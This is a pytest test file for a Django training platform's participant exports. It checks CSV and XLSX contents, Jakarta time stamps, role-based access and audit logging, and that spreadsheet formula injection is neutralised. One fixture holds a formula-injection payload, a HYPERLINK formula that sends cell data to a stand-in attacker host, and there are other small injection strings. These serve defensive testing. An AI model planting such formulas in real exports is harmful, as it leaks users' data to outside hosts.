"""Participant exports: contents, time zone, formula injection, who may take them."""

import csv
import io
from datetime import datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from sinergi.core.models import AuditLog, InstitutionType, Province
from sinergi.core.spreadsheets import neutralise_formula
from sinergi.training import services

from ..factories import BatchFactory, UserFactory

pytestmark = pytest.mark.django_db

JAKARTA = ZoneInfo("Asia/Jakarta")
PHONE = "+6281234567890"
NASTY = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


@pytest.fixture
def batch():
    return BatchFactory(code="RDA/2026 01", capacity=5, fee=750_000)


@pytest.fixture
def participants(batch):
    """A paid participant with a full profile, and one whose data tries formula injection."""
    school = InstitutionType.objects.get(slug="school")
    west_java = Province.objects.get(name__icontains="Jawa Barat")
    paid_user = UserFactory(
        full_name="Dra. Siti Nurhaliza, M.Hum.",
        institution_name="SMAN 3 Bandung",
        institution_type=school,
        position="Pustakawan Ahli Muda",
        province=west_java,
        phone=PHONE,
    )
    paid = services.registration_create(batch=batch, user=paid_user, consent=True)
    payment = services.payment_submit_transfer(
        invoice=paid.invoice,
        user=paid_user,
        proof=SimpleUploadedFile("bukti.pdf", b"%PDF-1.4", content_type="application/pdf"),
    )
    services.payment_approve(payment=payment, actor=UserFactory(roles=["finance"]))
    paid.refresh_from_db()
    nasty_user = UserFactory(
        full_name=NASTY, institution_name="@SUM(1+1)", position="-2+3", phone="+1"
    )
    nasty = services.registration_create(batch=batch, user=nasty_user, consent=True)
    return paid, nasty


def export(client, batch, fmt, role="program_manager"):
    client.force_login(UserFactory(roles=[role]))
    return client.get(reverse("training:participants_export", args=[batch.pk, fmt]))


def test_csv_has_a_bom_the_columns_and_unmasked_data(client, batch, participants):
    paid, _nasty = participants
    response = export(client, batch, "csv")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment;")
    assert "rda2026-01.csv" in response["Content-Disposition"]
    assert response.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert len(rows) == 3 and len(rows[0]) == 11
    row = rows[1]
    registered = timezone.localtime(paid.created_at, JAKARTA).strftime("%Y-%m-%d %H:%M")
    paid_at = timezone.localtime(paid.invoice.paid_at, JAKARTA).strftime("%Y-%m-%d %H:%M")
    assert row[0] == "Dra. Siti Nurhaliza, M.Hum."
    assert row[1] == paid.user.email
    assert row[2:4] == ["SMAN 3 Bandung", str(paid.user.institution_type)]
    assert row[4] == "Pustakawan Ahli Muda"
    assert "Jawa Barat" in row[5]
    assert row[6] == "'" + PHONE  # whole, and kept as text
    assert row[8:] == [registered, paid.invoice.number, paid_at]
    assert AuditLog.objects.filter(verb="training.participants.exported", data__format="csv")


def test_csv_neutralises_formulas(client, batch, participants):
    response = export(client, batch, "csv", role="finance")
    row = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))[2]
    assert row[0] == "'" + NASTY
    assert row[2] == "'@SUM(1+1)"
    assert row[4] == "'-2+3"
    dangerous = ("=", "+", "-", "@")
    assert not any(cell.startswith(dangerous) for cell in row)


@pytest.mark.parametrize(
    "text, safe",
    [
        ("=1+1", "'=1+1"),
        ("+62812", "'+62812"),
        ("-5", "'-5"),
        ("@cmd", "'@cmd"),
        ("\t=1", "'\t=1"),
        ("Budi", "Budi"),
        ("", ""),
        ("a=b", "a=b"),
    ],
)
def test_neutralise_formula(text, safe):
    assert neutralise_formula(text) == safe


def test_xlsx_parses_with_the_same_data_and_no_formulas(client, batch, participants):
    paid, _nasty = participants
    response = export(client, batch, "xlsx")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert "rda2026-01.xlsx" in response["Content-Disposition"]
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows())
    assert len(rows) == 3 and len(rows[0]) == 11
    paid_row = [cell.value for cell in rows[1]]
    assert paid_row[0] == "Dra. Siti Nurhaliza, M.Hum."
    assert paid_row[6] == PHONE
    registered = timezone.localtime(paid.created_at, JAKARTA).replace(tzinfo=None)
    assert abs(paid_row[8] - registered) < timedelta(seconds=1)  # Excel keeps milliseconds
    assert isinstance(paid_row[10], datetime)
    assert paid_row[9] == paid.invoice.number
    nasty_row = rows[2]
    # Typed as text, the cell shows the formula's characters and never runs them.
    assert [cell.data_type for cell in rows[2] if cell.value is not None].count("f") == 0
    assert nasty_row[0].value == NASTY
    assert nasty_row[2].value == "@SUM(1+1)"
    assert nasty_row[10].value is None


def test_head_may_not_export(client, batch, participants):
    for fmt in ("csv", "xlsx"):
        assert export(client, batch, fmt, role="head").status_code == 403
        assert export(client, batch, fmt, role="participant").status_code == 403
    assert not AuditLog.objects.filter(verb="training.participants.exported").exists()


def test_unknown_format_is_404(client, batch):
    assert export(client, batch, "pdf").status_code == 404
    assert export(client, batch, "CSV").status_code == 404


def test_unknown_batch_is_404(client):
    client.force_login(UserFactory(roles=["finance"]))
    url = reverse("training:participants_export", args=[99999, "csv"])
    assert client.get(url).status_code == 404
